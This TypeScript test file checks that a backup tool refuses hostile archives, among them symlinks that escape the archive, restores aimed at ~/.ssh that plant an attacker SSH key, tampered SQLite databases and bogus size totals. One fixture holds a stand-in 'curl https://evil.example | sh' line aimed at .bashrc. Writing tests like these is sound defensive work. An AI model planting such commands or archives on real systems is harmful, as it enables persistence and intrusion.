// Hostile manifests through the binary: valid entries and sha256s, a manifest that steers the restore. Each is
// refused with exit 1 and one line; every byte around the state (home, backups, victims) and the state stay as they were.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createBackup } from "../../src/backup/create-backup.js";
import { resolveStatePaths } from "../../src/state/paths.js";
import { seedState } from "../helpers/backup-state.js";
import { AGENT_DB, ArchiveEdit, GLOBAL_DB } from "../helpers/hostile-manifests.js";
import { manifestOf, readRawEntries, writeRawArchive, type RawEntry } from "../helpers/tar-tools.js";
import { runBin, snapshotTree, type TempState } from "../helpers/temp-state.js";

interface Ctx {
  root: string;
  state: TempState;
  entries: RawEntry[];
  archiveRoot: string;
}

interface ManifestCase {
  name: string;
  /** verify's answer: the refusal, or "ok" where only the restoring host's boundary refuses the archive. */
  verify: RegExp | "ok";
  restore: RegExp;
  make(e: ArchiveEdit, ctx: Ctx): RawEntry[];
  args?(ctx: Ctx): string[];
}

const workspaceAsset = (e: ArchiveEdit, sourcePath: string, name: string): ArchiveEdit =>
  e
    .addAsset({ kind: "workspace", type: "dir", sourcePath, archivePath: `payload/workspaces/${name}` })
    .addDir(`payload/workspaces/${name}`)
    .addFile(`payload/workspaces/${name}/authorized_keys`, Buffer.from("ssh-ed25519 AAAA attacker\n"));

const CASES: ManifestCase[] = [
  {
    name: "workspace aimed at a directory the current config does not name (~/.ssh)",
    verify: "ok",
    restore: /refused the workspace .*victim-ssh: .*is not a workspace in the current config .*--workspace/,
    make: (e, c) => workspaceAsset(e, path.join(c.root, "victim-ssh"), "9-ssh").entries(),
  },
  {
    name: "file-type workspace aimed at an rc file",
    verify: /a workspace asset must be a directory, the manifest says file/,
    restore: /was refused: .*a workspace asset must be a directory/,
    make: (e, c) =>
      e
        .addAsset({ kind: "workspace", type: "file", sourcePath: path.join(c.root, ".bashrc"), archivePath: "payload/workspaces/9-rc" })
        .addFile("payload/workspaces/9-rc", Buffer.from("curl https://evil.example | sh\n"))
        .entries(),
  },
  {
    name: "workspace aimed at the backup dir, even when named on the command line",
    verify: "ok",
    restore: /refused the workspace .*\.openclaw-backups: never restored there: it is, contains or lies inside the backup directory \(from --workspace/,
    make: (e, c) => workspaceAsset(e, path.join(c.root, ".openclaw-backups"), "9-backups").entries(),
    args: (c) => ["--workspace", `9-backups=${path.join(c.root, ".openclaw-backups")}`],
  },
  {
    name: "workspace aimed at $HOME itself, though the current config names it",
    verify: "ok",
    restore: /refused the workspace .*: never restored there: it is the home directory itself \(from current config agents\.list\[0\]\.workspace/,
    make: (e, c) => workspaceAsset(e, c.root, "9-home").entries(),
  },
  {
    name: "workspace aimed at an ancestor of the state dir",
    verify: "ok",
    restore: /never restored there: it is the state dir or one of its ancestors/,
    make: (e, c) => workspaceAsset(e, path.join(c.root, "victim-ssh"), "9-up").entries(),
    args: (c) => ["--workspace", `9-up=${path.dirname(c.root)}`],
  },
  {
    name: "symlink at payload/state/state pointing out of the tree",
    verify: /symlink payload\/state\/state leaves its asset: its target ".*outside" is absolute/,
    restore: /was refused: manifest symlink payload\/state\/state leaves its asset/,
    make: (e, c) => e.remove("payload/state/state").addLink("payload/state/state", path.join(c.root, "outside")).entries(),
  },
  {
    name: "relative symlink for agents climbing out of the state tree",
    verify: /symlink payload\/state\/agents leaves its asset: its target "\.\.\/outside" leads out of payload\/state/,
    restore: /was refused: manifest symlink payload\/state\/agents leaves its asset/,
    make: (e) => e.remove("payload/state/agents").addLink("payload/state/agents", "../outside").entries(),
  },
  {
    name: "link that escapes only through another link (lexically inside)",
    verify: /symlink payload\/state\/l1 leaves its asset: its target "a\/l2\/\.\.\/\.\." leads out/,
    restore: /was refused: manifest symlink payload\/state\/l1 leaves its asset/,
    make: (e) => e.addDir("payload/state/a").addLink("payload/state/a/l2", "..").addLink("payload/state/l1", "a/l2/../..").entries(),
  },
  {
    name: "dangling symlink at the agent database path",
    verify: /manifest places a symlink at the agent database path payload\/state\/agents\/main\/agent\/openclaw-agent\.sqlite/,
    restore: /was refused: manifest places a symlink at the agent database path/,
    make: (e) => e.remove(AGENT_DB).addLink(AGENT_DB, "../../../elsewhere.sqlite").entries(),
  },
  {
    name: "config asset of type dir",
    verify: /a config asset must be a file, the manifest says directory/,
    restore: /was refused: .*a config asset must be a file/,
    make: (e, c) =>
      e
        .addAsset({ kind: "config", type: "dir", sourcePath: c.state.paths.configPath, archivePath: "payload/config/openclaw.json" })
        .addDir("payload/config")
        .addDir("payload/config/openclaw.json")
        .entries(),
  },
  {
    name: "corrupt SQLite file listed only in files[]",
    verify: /SQLite file payload\/state\/notes\/cache\.sqlite fails its check/,
    restore: /was refused: SQLite file payload\/state\/notes\/cache\.sqlite fails its check/,
    make: (e, c) => {
      const good = c.entries.find((x) => x.path === `${c.archiveRoot}/${AGENT_DB}`)!.data;
      const bad = Buffer.from(good);
      bad.fill(0x5a, 4096 + 100, bad.length - 100); // b-tree pages overwritten; the header survives
      return e.addFile("payload/state/notes/cache.sqlite", bad).entries();
    },
  },
  {
    name: "index corruption that only a full integrity_check finds",
    verify: /database payload\/state\/agents\/main\/agent\/openclaw-agent\.sqlite fails its check: integrity_check: .*missing from index/,
    restore: /was refused: database .*openclaw-agent\.sqlite fails its check: integrity_check: .*missing from index/,
    make: (e) =>
      e
        .editDatabase(AGENT_DB, "PRAGMA writable_schema=ON; UPDATE sqlite_master SET sql='CREATE INDEX sessions_session_key_idx ON sessions (session_id)' WHERE name='sessions_session_key_idx';")
        .entries(),
  },
  {
    // Any user_version is backed up and restored (schema-agnostic); one that differs from the manifest's is tampering.
    name: "database whose schema version differs from the manifest",
    verify: /openclaw-agent\.sqlite fails its check: schema version is 2, the manifest says 1/,
    restore: /was refused: .*schema version is 2, the manifest says 1/,
    make: (e) => e.editDatabase(AGENT_DB, "PRAGMA user_version = 2;").entries(),
  },
  {
    name: "manifest without the state dir path",
    verify: /manifest paths\.stateDir undefined is not an absolute path|manifest paths\.stateDir is not a string/,
    restore: /was refused: manifest paths\.stateDir/,
    make: (e) => {
      delete e.m.paths.stateDir;
      return e.entries();
    },
  },
  {
    name: "a 300-byte name",
    verify: /has a 300-byte name \(file systems allow 255\)/,
    restore: /was refused: .*has a 300-byte name/,
    make: (e) => e.addFile(`payload/state/notes/${"a".repeat(300)}`, Buffer.from("x")).entries(),
  },
  {
    name: "a directory named openclaw.sqlite-wal beside the global database",
    verify: /payload\/state\/state\/openclaw\.sqlite-wal, a SQLite sidecar name beside the database/,
    restore: /was refused: .*openclaw\.sqlite-wal, a SQLite sidecar name/,
    make: (e) => e.addDir(`${GLOBAL_DB}-wal`).entries(),
  },
  {
    name: "declared totals that do not add up",
    verify: /manifest totals\.bytes is 1 but its lists add up to \d+/,
    restore: /was refused: manifest totals\.bytes is 1/,
    make: (e) => {
      e.entries();
      e.m.totals.bytes = 1;
      return e.entries({ honestTotals: false });
    },
  },
  {
    name: "an entry declaring 1 PiB in a small archive",
    verify: /truncated in the middle of an entry/,
    restore: /Restore needs about 1073741\d{3}\.\d MiB on the file system of .* but only .* is free; .*nothing was written/,
    make: (e, c) => {
      const size = 2 ** 50;
      e.m.files.push({ archivePath: "payload/state/notes/huge.bin", size, sha256: "0".repeat(64), mode: 0o600, mtimeMs: 0 });
      const list = e.entries();
      return [...list, { path: `${c.archiveRoot}/payload/state/notes/huge.bin`, type: "File", data: Buffer.alloc(4096), headerSize: size }];
    },
  },
];

describe("hostile manifests (binary)", () => {
  let ctx: Ctx;
  let dir: string;

  beforeAll(async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), "ocs-hostile-manifest-"));
    const stateDir = path.join(root, ".openclaw");
    fs.mkdirSync(stateDir, { mode: 0o700 });
    const env = { PATH: process.env.PATH, HOME: root, OPENCLAW_STATE_DIR: stateDir };
    const state: TempState = { root, stateDir, env, paths: resolveStatePaths({ env }) };
    seedState(state);
    // The victims: what the archives replaced or planted into.
    fs.mkdirSync(path.join(root, "victim-ssh"), { mode: 0o700 });
    fs.writeFileSync(path.join(root, "victim-ssh", "id_ed25519"), "PRIVATE KEY\n", { mode: 0o600 });
    fs.writeFileSync(path.join(root, ".bashrc"), "export PATH=$HOME/bin:$PATH\n");
    fs.mkdirSync(path.join(root, "outside"));
    fs.writeFileSync(path.join(root, "outside", "keep.txt"), "outside the state\n");
    fs.mkdirSync(path.join(root, "ws"));
    fs.writeFileSync(path.join(root, "ws", "main.ts"), "export {};\n");
    // The current config names $HOME itself as a workspace (create skips it: it contains the state dir).
    fs.writeFileSync(state.paths.configPath, `{ agents: { list: [{ id: "home", workspace: "~" }], defaults: { workspace: "~/ws" } } }`);
    const backup = await createBackup({ paths: state.paths });
    const entries = readRawEntries(backup.archivePath);
    ctx = { root, state, entries, archiveRoot: manifestOf(entries).archiveRoot };
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "ocs-hostile-manifest-archives-"));
  }, 120_000);

  afterAll(() => {
    fs.rmSync(ctx.root, { recursive: true, force: true });
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("the untouched archive, rebuilt by the same helpers, verifies (control)", async () => {
    const control = path.join(dir, "control.tar.gz");
    writeRawArchive(control, new ArchiveEdit(ctx.entries, ctx.archiveRoot).entries());
    const r = await runBin(["backup", "verify", control], ctx.state.env);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
  });

  for (const c of CASES) {
    it(`${c.name}: exit 1, one line, nothing outside or inside the state changed`, async () => {
      const hostile = path.join(dir, `${c.name.replace(/\W+/g, "-")}.tar.gz`);
      writeRawArchive(hostile, c.make(new ArchiveEdit(ctx.entries, ctx.archiveRoot), ctx));
      const before = snapshotTree(ctx.root);

      const verified = await runBin(["backup", "verify", hostile], ctx.state.env);
      if (c.verify === "ok") {
        expect(verified.stderr).toBe("");
        expect(verified.code).toBe(0);
      } else {
        expect(verified.code).toBe(1);
        expect(verified.stderr).toMatch(c.verify);
      }

      for (const mode of [["--yes"], ["--dry-run"]]) {
        const restored = await runBin(["backup", "restore", hostile, ...mode, ...(c.args?.(ctx) ?? [])], ctx.state.env);
        expect(restored.code, restored.stderr).toBe(1);
        expect(restored.stdout).toBe("");
        const lines = restored.stderr.trimEnd().split("\n");
        expect(lines).toHaveLength(1);
        expect(lines[0]).toMatch(/^error: /);
        expect(lines[0]).toMatch(c.restore);
      }
      expect(snapshotTree(ctx.root)).toEqual(before);
    }, 60_000);
  }
});
